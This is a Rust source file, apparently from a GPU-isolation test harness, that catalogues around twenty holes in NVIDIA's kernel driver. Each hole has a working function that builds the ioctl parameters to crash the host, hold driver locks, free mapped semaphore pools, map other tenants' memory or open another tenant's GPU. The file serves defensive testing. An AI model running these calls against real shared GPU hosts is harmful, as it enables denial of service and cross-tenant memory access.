// SPDX-License-Identifier: GPL-2.0
//! Holes of NVIDIA's driver that were read in its sources. Where it would end the host's kernel, or
//! reach somebody's memory, the stand-in counts that instead.

use super::{
    attack::attacks,
    scene::{told, Attacker, GPU, MIB, OWN},
};
use crate::{
    bytes::{put_u32, put_u64},
    guest::{process::in_child, rm, tools::Verdict, uvm},
    layout, sys,
};

attacks! {
    "an address space that all tenants have (GPU_GLOBAL)": "vaspace_api.c:vaspaceapiConstruct_IMPL",
        Passes, Gpu, |a| space(a, OWN, (OF_ALL, 0));
    "host crash: the fabric's address space forgotten (IS_FLA)": "gpu_vaspace.c:_gvaspaceFlaVaspaceDestruct",
        Passes, Gpu, fabric_forgotten;
    "host crash: devices that share each other's addresses (hClientShare)": "device_share.c:deviceInitClientShare",
        Passes, Gpu, circle;
    "a map of who has what (FIXED_ADDRESS_ALLOCATE)": "video_mem.c:_vidmemPmaAllocate",
        Passes, Told, map_of_places;
    "huge pages blocked by small pieces (ALIGNMENT_FORCE)": "video_mem.c:_vidmemPmaAllocate",
        Passes, Told, blocked_frames;
    "host crash: memory of a node that is not there (FIXED_NUMA_NODE_ID)": "system_mem.c:sysmemConstruct_IMPL",
        Passes, Gpu, missing_node;
    "memory of half a GPU kept from all (ENABLE_LOCALIZED_MEMORY)": "phys_mem_allocator.c:pmaAllocatePages",
        Passes, Gpu, localized;
    "host crash: the size of SEC2's absent context (FLCN_GET_CTX_BUFFER_SIZE)": "kernel_falcon_ctrl.c:subdeviceCtrlCmdFlcnGetCtxBufferSize_IMPL",
        Passes, Gpu, absent_context;
    "the driver's lock held by wishes (REQUEST_DATA_POLL)": "gpu_user_shared_data.c:_gpushareddataRequestDataPoll",
        Passes, Told, wishes;
    "UVM's lock of all held (UVM_ENABLE_PEER_ACCESS)": "uvm_va_space.c:uvm_api_enable_peer_access",
        Passes, Gpu, lock_of_all;
    "host crash: a semaphore that nobody has mapped (UVM_MIGRATE)": "uvm_migrate.c:semaphore_release_from_cpu",
        Passes, Gpu, unmapped_semaphore;
    "host crash: a pool of semaphores mapped by two processes": "uvm.c:uvm_destroy_vma_semaphore_pool",
        Passes, Gpu, pool_of_two;
    "another's GPU opened by UVM (UVM_REGISTER_GPU)": "uvm_va_space.c:uvm_va_space_register_gpu",
        Passes, Gpu, |a| {
            let space = a.prepare("a UVM file", uvm::Space::open(&a.folder))?;
            told(space.register_gpu(&a.victim.gpus.other_uuid))
        };
    "registers as an object, the newer way (RM_ALLOC of class 0x3f)": "reg_mem.c:regmemConstruct_IMPL",
        Passes, Told, |a| a.alloc(rm::DEVICE_HANDLE, OWN, 0x3f, &mut []);
    "mapping: a place given up (UPDATE_DEVICE_MAPPING_INFO)": "osapi.c:RmUpdateDeviceMappingInfo",
        Passes, Gpu, renamed;
    "mapping: memory mapped by a freed subdevice": "rs_client.c:_clientUnmapBackRefMappings",
        Passes, Gpu, without_subdevice;
    "an event that calls into the kernel (NV01_EVENT)": "event.c:eventConstruct_IMPL",
        Refuses, Told, kernel_callback;
    "host crash: a channel keeps the locks of all GPUs (CC_SECURE)": "kernel_channel.c:kchannelConstruct_IMPL",
        Passes, Gpu, locks_kept;
    "host crash: a number that no peers can have (NV50_P2P)": "kern_bus_gp100.c:kbusCreateP2PMappingForNvlink_GP100",
        Passes, Gpu, peers;
}

/// Indices of address spaces (`NV_VASPACE_ALLOCATION_INDEX_GPU_*`).
pub(super) const NEW: u32 = 0;
const OF_ALL: u32 = 2;
const OF_DEVICE: u32 = 3;
/// `NV_VASPACE_ALLOCATION_FLAGS_IS_FLA`.
const OF_FABRIC: u32 = 1 << 9;
/// NV2080_ENGINE_TYPE_SEC2.
const SEC2: u32 = 0x26;

/// An address space of an index, with flags.
pub(super) fn space(a: &Attacker, handle: u32, (index, flags): (u32, u32)) -> Verdict {
    let mut params = [0; 56];
    put_u32(&mut params, 0, index);
    put_u32(&mut params, 4, flags);
    a.alloc(rm::DEVICE_HANDLE, handle, uvm::VA_SPACE, &mut params)
}

fn fabric_forgotten(a: &Attacker) -> Verdict {
    space(a, OWN, (NEW, OF_FABRIC))?;
    told(a.client.free(OWN))
}

/// Two clients whose devices share each other's addresses, which one then needs.
fn circle(a: &Attacker) -> Verdict {
    let ctl = a.client.ctl;
    let client = || a.prepare("a client", rm::alloc(ctl, 0, 0, 0, rm::ROOT, &mut []));
    let (one, other) = (client()?, client()?);
    for (own, shared) in [(one, other), (other, one)] {
        let mut params = [0; 56];
        put_u32(&mut params, 0, a.victim.gpus.instance);
        put_u32(&mut params, 4, shared);
        told(rm::alloc(ctl, own, own, OWN, rm::DEVICE, &mut params))?;
    }
    let mut params = [0; 56];
    put_u32(&mut params, 0, OF_DEVICE);
    told(rm::alloc(
        ctl,
        one,
        OWN,
        OWN + 1,
        uvm::VA_SPACE,
        &mut params,
    ))
}

/// Asks for one place after the other: those that are refused are somebody's.
fn map_of_places(a: &Attacker) -> Verdict {
    // The first ones are the driver's own.
    const PLACES: std::ops::Range<u64> = 2..64;
    let mut refused = None;
    let mut given = 0;
    for place in PLACES {
        let mut params = rm::memory_params(a.client.handle, 2 * MIB);
        // NVOS32_ALLOC_FLAGS_FIXED_ADDRESS_ALLOCATE.
        put_u32(&mut params, 8, 0x1_C111);
        put_u64(&mut params, 80, place * 2 * MIB);
        match a.alloc(rm::DEVICE_HANDLE, OWN, rm::VIDEO_MEMORY, &mut params) {
            Ok(()) => {
                given += 1;
                a.prepare("the memory's end", a.client.free(OWN))?;
            }
            Err(how) => refused = Some(how),
        }
    }
    match refused {
        Some(how) if given == 0 => Err(how),
        Some(_) => Ok(()),
        None => Err("nobody has anything".to_owned()),
    }
}

/// Pieces of 64 KiB, each at the beginning of a huge page: more of these than the limit has.
fn blocked_frames(a: &Attacker) -> Verdict {
    const PIECES: u32 = 600;
    for count in 0..PIECES {
        let mut params = rm::memory_params(a.client.handle, 64 << 10);
        // NVOS32_ALLOC_FLAGS_ALIGNMENT_FORCE; pages of the size that the driver chooses.
        put_u32(&mut params, 8, 0x1_C101);
        put_u64(&mut params, 72, 2 * MIB);
        let made = a.alloc(
            rm::DEVICE_HANDLE,
            OWN + count,
            rm::VIDEO_MEMORY,
            &mut params,
        );
        made.map_err(|end| format!("{end} after {count} pieces"))?;
    }
    Ok(())
}

fn missing_node(a: &Attacker) -> Verdict {
    let mut params = rm::memory_params(a.client.handle, 4096);
    put_u32(&mut params, 8, 0xC001);
    put_u32(&mut params, 24, 0x3A00_0000);
    // NVOS32_ATTR2_FIXED_NUMA_NODE_ID_YES.
    put_u32(&mut params, 28, 1 << 7);
    put_u32(&mut params, 120, 1 << 20);
    a.alloc(rm::DEVICE_HANDLE, OWN, rm::SYSTEM_MEMORY, &mut params)
}

fn localized(a: &Attacker) -> Verdict {
    let mut params = rm::memory_params(a.client.handle, 64 << 10);
    // NVOS32_ATTR2_ENABLE_LOCALIZED_MEMORY_UGPU0.
    put_u32(&mut params, 28, 1 << 29);
    a.alloc(rm::DEVICE_HANDLE, OWN, rm::VIDEO_MEMORY, &mut params)
}

fn absent_context(a: &Attacker) -> Verdict {
    a.group_on(OWN, SEC2)?;
    a.channel_in(OWN, OWN + 1)?;
    let mut params = [0; 16];
    put_u32(&mut params, 0, OWN + 1);
    a.control(rm::SUBDEVICE_HANDLE, 0x2080_3125, &mut params)
}

/// An object of shared data changes what it wants of them.
fn wishes(a: &Attacker) -> Verdict {
    const CHANGES: u32 = 1000;
    let made = a.alloc(rm::SUBDEVICE_HANDLE, OWN, 0xde, &mut [0; 8]);
    a.prepare("an object of shared data", made)?;
    for count in 0..CHANGES {
        let mut wanted = [0; 8];
        put_u32(&mut wanted, 0, 1 << (count % 2));
        let changed = a.control(OWN, 0xde_0001, &mut wanted);
        changed.map_err(|end| format!("{end} after {count} changes"))?;
    }
    Ok(())
}

/// Peers that are one GPU. The driver sees that when it has waited with its lock.
fn lock_of_all(a: &Attacker) -> Verdict {
    const ENABLE_PEER_ACCESS: u32 = 29;
    let space = a.prepare("a UVM file", uvm::Space::open(&a.folder))?;
    let uuid = a.victim.gpus.uuid;
    a.prepare("the GPU in UVM", space.register_gpu(&uuid))?;
    let mut params = [0; 36];
    params[..16].copy_from_slice(&uuid);
    params[16..32].copy_from_slice(&uuid);
    told(space.call(ENABLE_PEER_ACCESS, &mut params, 32))
}

/// The address of a pool of semaphores, of a page.
const POOL: u64 = 0x7d00_0000_0000;
/// A page of the processor's.
const PAGE: u64 = 4096;

fn pool(a: &Attacker, space: &uvm::Space) -> Verdict {
    let mut params = vec![0; 9248];
    put_u64(&mut params, 0, POOL);
    put_u64(&mut params, 8, PAGE);
    let made = space.call(layout::UVM_ALLOC_SEMAPHORE_POOL, &mut params, 9240);
    a.prepare("a pool", made)
}

/// A pool that is freed while a process has it mapped: another one has mapped it too, and taken
/// that back.
fn pool_of_two(a: &Attacker) -> Verdict {
    let space = a.prepare("a UVM file", uvm::Space::open_shared(&a.folder))?;
    pool(a, &space)?;
    let (prot, shared) = (libc::PROT_READ | libc::PROT_WRITE, libc::MAP_SHARED);
    let errno = |errno| format!("errno {errno}");
    let map = || sys::mmap(POOL, PAGE, prot, shared | libc::MAP_FIXED, space.fd, POOL);
    // SAFETY: `map` has mapped it, in each process.
    let unmap = || unsafe { sys::munmap(POOL, PAGE) };
    a.prepare("the pool's mapping", map())?;
    in_child(|| {
        map().map_err(|errno| format!("mmap by another process: errno {errno}"))?;
        unmap().map_err(errno)
    })?;
    told(space.free_range(POOL, PAGE))?;
    unmap().map_err(errno)
}

/// A migration of nothing, whose end is told in a pool that neither the CPU nor a GPU has mapped.
fn unmapped_semaphore(a: &Attacker) -> Verdict {
    const MIGRATE: u32 = 51;
    let space = a.prepare("a UVM file", uvm::Space::open(&a.folder))?;
    pool(a, &space)?;
    let mut params = [0; 80];
    params[16..32].copy_from_slice(&uvm::CPU);
    // UVM_MIGRATE_FLAG_ASYNC.
    put_u32(&mut params, 32, 1);
    put_u64(&mut params, 40, POOL);
    put_u32(&mut params, 48, 1);
    told(space.call(MIGRATE, &mut params, 72))
}

/// The first page of memory, which a new file shows: as the driver names it, and the file.
fn mapped_by(a: &Attacker, device: u32) -> Result<(u64, i32), String> {
    a.prepare("memory", a.client.memory(OWN, 2 * MIB))?;
    let path = format!("{}/nvidia{GPU}", a.folder);
    let file = a.prepare("a file", sys::open(&path, libc::O_RDWR | libc::O_CLOEXEC))?;
    let names = (a.client.handle, device, OWN);
    let mapped = rm::map(a.client.ctl, names, PAGE, rm::MAP_OF_MEMORY, file);
    Ok((a.prepare("a mapping", mapped)?, file))
}

/// A mapping gets the name that the driver is about to give to another one, whose file is taken.
fn renamed(a: &Attacker) -> Verdict {
    let (told_at, file) = mapped_by(a, rm::DEVICE_HANDLE)?;
    let mut outer = [0; 40];
    for (at, value) in [(0, a.client.handle), (4, rm::DEVICE_HANDLE), (8, OWN)] {
        put_u32(&mut outer, at, value);
    }
    put_u64(&mut outer, 16, told_at);
    put_u64(&mut outer, 24, told_at + PAGE);
    a.prepare("the name", a.escape(0x5e, &mut outer, 32))?;
    let names = (a.client.handle, rm::DEVICE_HANDLE, OWN);
    let next = rm::map_part(a.client.ctl, names, (PAGE, PAGE), rm::MAP_OF_MEMORY, file);
    let _ = sys::close(file);
    told(next)
}

fn without_subdevice(a: &Attacker) -> Verdict {
    let (_, file) = mapped_by(a, rm::SUBDEVICE_HANDLE)?;
    let freed = a.client.free(rm::SUBDEVICE_HANDLE);
    let _ = sys::close(file);
    told(freed)
}

fn kernel_callback(a: &Attacker) -> Verdict {
    let mut params = [0; 24];
    put_u32(&mut params, 0, a.client.handle);
    // NV01_EVENT_KERNEL_CALLBACK.
    put_u32(&mut params, 8, 0x78);
    put_u32(&mut params, 12, rm::ENGINE_EVENT);
    put_u64(&mut params, 16, layout::CLASS_OS_EVENT.into());
    a.alloc(rm::SUBDEVICE_HANDLE, OWN, 0x5, &mut params)
}

/// A channel for confidential computing, which is off.
fn locks_kept(a: &Attacker) -> Verdict {
    let group = a.group()?;
    let mut params = a.prepare("a channel's parameters", a.client.channel_params())?;
    // NVOS04_FLAGS_CC_SECURE.
    put_u32(&mut params, 20, 1 << 2);
    a.alloc(group, OWN + 1, rm::CHANNEL, &mut params)
}

/// A GPU and itself as peers, by the ninth number.
fn peers(a: &Attacker) -> Verdict {
    let mut params = [0; 72];
    put_u32(&mut params, 0, rm::SUBDEVICE_HANDLE);
    put_u32(&mut params, 4, rm::SUBDEVICE_HANDLE);
    put_u32(&mut params, 8, 1 << 8);
    put_u32(&mut params, 12, 1 << 8);
    a.alloc(a.client.handle, OWN, 0x503b, &mut params)
}
